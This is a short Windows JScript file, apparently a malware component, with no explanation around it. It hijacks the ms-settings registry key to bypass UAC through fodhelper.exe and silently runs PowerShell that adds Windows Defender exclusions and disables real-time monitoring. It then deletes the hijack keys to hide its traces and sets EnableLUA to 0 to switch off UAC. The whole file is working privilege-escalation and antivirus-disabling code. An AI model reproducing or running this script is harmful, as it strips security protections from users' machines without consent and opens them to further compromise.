var sh = new ActiveXObject("WScript.Shell");
var ps = 'powershell -nop -w hidden -c "Add-MpPreference -ExclusionPath C:\\ProgramData; Add-MpPreference -ExclusionProcess wscript.exe; Set-MpPreference -DisableRealtimeMonitoring $true"';
sh.RegWrite("HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\", ps, "REG_SZ");
sh.RegWrite("HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\DelegateExecute", "", "REG_SZ");
sh.Run("C:\\Windows\\System32\\fodhelper.exe", 0, false);
WScript.Sleep(4000);
sh.RegDelete("HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\DelegateExecute");
sh.RegDelete("HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\");
sh.RegWrite("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA", 0, "REG_DWORD");
